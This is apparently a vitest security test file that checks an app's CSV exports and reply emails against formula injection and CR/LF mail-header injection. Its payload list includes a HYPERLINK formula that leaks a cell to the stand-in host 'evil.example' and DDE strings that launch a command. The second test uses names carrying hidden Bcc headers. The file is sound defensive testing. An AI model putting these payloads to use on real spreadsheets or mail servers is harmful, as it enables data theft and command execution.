import { expect, test } from 'vitest';
import { parseCsv } from '../csv.js';
import { unzip } from '../zip.js';
import { sendGuestMessage } from '../../modules/messages/messages.test-support.js';
import { createCreator, describeApp } from '../harness.js';
import { smtpServerPerFile } from '../smtp.js';
import { uploadReply } from './security-fixtures.js';

/** Names a guest may type that a spreadsheet would otherwise run as a formula (OWASP's CSV injection list). */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=1+1\tTab',
  'Tab\t=1+1',
  '\t=1+1', // the schema trims a leading tab; what is left still starts with =
  '\r=1+1',
  '"=1+1"',
];
const FORMULA_START = /^[=+\-@\t\r]/;

async function zipEntry(buf: Buffer, name: string): Promise<string> {
  const entry = (await unzip(buf)).find((e) => e.name === name);
  if (!entry) throw new Error(`${name} not in the archive`);
  return entry.data.toString('utf8');
}

const smtp = smtpServerPerFile();

describeApp(
  'CSV and email injection',
  (ctx) => {
    test("subscriber names that look like formulas stay text in the subscribers CSV and the archive's messages.csv", async () => {
      const { app } = ctx();
      const host = await createCreator(app);
      for (const [i, name] of FORMULAS.entries()) {
        await sendGuestMessage(app, host.profile!.id, { senderName: name, senderEmail: `guest${i}@example.com`, subscribeToNewsletter: true });
      }
      // An address may start with a formula character too.
      await sendGuestMessage(app, host.profile!.id, { senderName: 'Plain', senderEmail: '-1+1@example.com', subscribeToNewsletter: true });

      const csv = await app.inject({ method: 'GET', url: '/api/email-subscribers.csv', headers: { cookie: host.cookie } });
      expect(csv.statusCode).toBe(200);
      const zip = await app.inject({ method: 'GET', url: '/api/voice-messages/download', headers: { cookie: host.cookie } });
      expect(zip.statusCode).toBe(200);
      const index = await zipEntry(zip.rawPayload, 'messages.csv');

      for (const [file, text, nameColumn] of [['subscribers CSV', csv.body, 1], ['messages.csv', index, 1]] as const) {
        const rows = parseCsv(text.replace(/^\uFEFF/, ''));
        expect(rows.length, file).toBe(FORMULAS.length + 2);
        for (const row of rows.slice(1)) {
          for (const cell of row) expect(cell, `${file}: ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
        }
        // Every name is still there, word for word after the apostrophe that disarms it.
        const names = rows.slice(1).map((r) => r[nameColumn]!.replace(/^'/, ''));
        for (const name of FORMULAS) expect(names, file).toContain(name.trim());
      }
    });

    test("CR/LF in the guest's or the host's name cannot add a mail header or a recipient to the reply mail", async () => {
      const { app } = ctx();
      const host = await createCreator(app);
      const rename = await app.inject({
        method: 'PUT',
        url: '/api/creator-profile',
        headers: { cookie: host.cookie },
        payload: { displayName: 'Ada\r\nBcc: spy-host@example.com' },
      });
      expect(rename.statusCode).toBe(200);
      const guestEmail = `guest.${Date.now()}@example.com`;
      const message = await sendGuestMessage(app, host.profile!.id, {
        senderName: 'Eve\r\nBcc: spy@example.com\r\nX-Injected: yes\r\n\r\nbody',
        senderEmail: guestEmail,
      });
      const audioPath = await uploadReply(app, host.cookie);
      const res = await app.inject({
        method: 'POST',
        url: '/api/voice-replies',
        headers: { cookie: host.cookie },
        payload: { voiceMessageId: message.id, audioPath, duration: 2 },
      });
      expect(res.statusCode).toBe(201);

      const mail = await smtp().waitForMail((m) => m.envelope.to.includes(guestEmail));
      expect(mail.envelope.to).toEqual([guestEmail]);
      const headerNames = mail.parsed.headers.map((h) => h.key.toLowerCase());
      expect(headerNames).not.toContain('bcc');
      expect(headerNames).not.toContain('x-injected');
      expect(mail.parsed.subject).not.toMatch(/[\r\n]/);
      expect(mail.parsed.subject).toContain('Ada');
      expect(mail.parsed.from?.address).not.toContain('spy');
      expect(smtp().mails.flatMap((m) => m.envelope.to).some((to) => to.includes('spy'))).toBe(false);
      // The name reaches the guest as text in the body, not as structure.
      expect(mail.parsed.text).toContain('Eve');
    });
  },
  (config) => {
    config.smtpUrl = smtp().url;
  },
);
